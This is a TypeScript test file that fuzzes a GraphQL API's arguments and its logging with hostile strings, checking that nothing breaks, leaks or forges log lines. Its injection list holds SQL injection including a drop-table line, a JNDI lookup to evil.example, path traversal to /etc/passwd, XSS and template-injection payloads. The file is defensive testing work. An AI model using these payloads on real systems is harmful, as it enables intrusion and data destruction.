import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };
import { pino } from 'pino';
import {
  getNamedType,
  type GraphQLArgument,
  type GraphQLInputField,
  isEnumType,
  isInputObjectType,
  isNonNullType,
  isListType,
  getNullableType,
} from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Case } from '../../cases/case.ts';
import { claimed, phoneP1 } from '../../testing/stories.ts';
import { buildApiSchema } from '../schema.ts';
import { faultOf, type Ground, takeGround } from './ground.ts';

const injections = [
  `'; drop table "case"; --`,
  `' or '1'='1`,
  `" or ""="`,
  `\\'; select pg_sleep(30); --`,
  `1; select pg_sleep(30)`,
  `$$; select 1; $$`,
  `?::uuid`,
  `{"$gt": ""}`,
  `%' and 1=cast((select version()) as int) --`,
  'x\r\n{"level":60,"msg":"forged"}\r\n',
  '\u001b[2J\u001b[31mforged\u001b[0m',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00',
  '\u202e\u2066reversed',
  '\ud800',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  'a'.repeat(10_000),
  '((((((((((a*)*)*)*)*)*)*)*)*)*b',
  '& | ! ( ) : * <-> a & b',
];
// Every eleventh of the public list, so that all its kinds are among them; the field under test takes turns.
const strings = [...injections, ...naughty.filter((_, n) => n % 11 === 0)];

let ground: Ground;
let on: Case;
beforeAll(async () => {
  ground = await takeGround();
  on = await phoneP1(ground.world);
  await claimed(ground.world, on, 'priya');
});
afterAll(() => ground.close());

type Input = GraphQLArgument | GraphQLInputField;

function sensible({ name, type }: Input): unknown {
  const named = getNamedType(type);
  if (isInputObjectType(named)) {
    const required = Object.values(named.getFields()).filter((field) => isNonNullType(field.type));
    return Object.fromEntries(required.map((field) => [field.name, sensible(field)]));
  }
  if (isEnumType(named)) return named.getValues()[0]?.name;
  if (name === 'caseId') return on.globalId;
  if (named.name === 'DateTime') return new Date().toISOString();
  return isListType(getNullableType(type)) ? ['something'] : 'something';
}

/** The arguments with one text or id in them replaced, for every text and id there is. */
function* with_(value: string, inputs: readonly Input[]): Generator<Record<string, unknown>> {
  const base = Object.fromEntries(
    inputs.filter(({ type }) => isNonNullType(type)).map((input) => [input.name, sensible(input)]),
  );
  for (const input of inputs) {
    const named = getNamedType(input.type);
    if (isInputObjectType(named)) {
      for (const inner of with_(value, Object.values(named.getFields())))
        yield { ...base, [input.name]: inner };
    } else if (['String', 'ID'].includes(named.name)) {
      yield { ...base, [input.name]: isListType(getNullableType(input.type)) ? [value] : value };
    }
  }
}

describe('strings that have broken others', () => {
  const schema = buildApiSchema();
  const fields = (['query', 'mutation'] as const).flatMap((kind) =>
    Object.values((kind === 'query' ? schema.getQueryType() : schema.getMutationType())?.getFields() ?? {})
      .filter(({ args }) => args.length > 0)
      .map((field) => [kind, field.name, field] as const),
  );

  it.each(fields)('do nothing in the %s %s', { timeout: 120_000 }, async (kind, name, field) => {
    const variables = field.args.map((one) => `$${one.name}: ${String(one.type)}`).join(', ');
    const given = field.args.map((one) => `${one.name}: $${one.name}`).join(', ');
    const query = `${kind} (${variables}) { ${name}(${given}) { __typename } }`;
    const places = [...with_('', field.args)].length;
    // Each string goes into one place, each place gets several; what ran it would show in any of them.
    for (const [turn, value] of strings.entries()) {
      const all = [...with_(value, field.args)];
      const values = all[turn % Math.max(1, places)];
      if (!values) continue;
      const answer = await ground.service.ask(ground.token, query, values);
      expect(faultOf(answer), JSON.stringify(value).slice(0, 100)).toBe(false);
      expect(JSON.stringify(answer)).not.toMatch(/syntax error|relation "|PostgreSQL|node_modules/);
    }
    await ground.alive();
  });

  it('took nothing away', async () => {
    const em = ground.world.app.orm.em.fork();
    const [row] = await em.execute<{ count: string }[]>('select count(*) from "case"');
    expect(Number(row?.count)).toBeGreaterThan(0);
  });

  it('stay on their own line of the log', () => {
    const lines: string[] = [];
    const log = pino({ level: 'info' }, { write: (line: string) => lines.push(line) });
    for (const value of strings) log.info({ path: value, err: new Error(value) }, value);
    expect(lines).toHaveLength(strings.length);
    for (const line of lines) {
      expect(line.trimEnd()).not.toContain('\n');
      expect((JSON.parse(line) as { level: number }).level).toBe(30);
      // Nothing steers the terminal of whoever reads it.
      // eslint-disable-next-line no-control-regex
      expect(line.trimEnd()).not.toMatch(/[\u0000-\u001f]/);
    }
  });
});
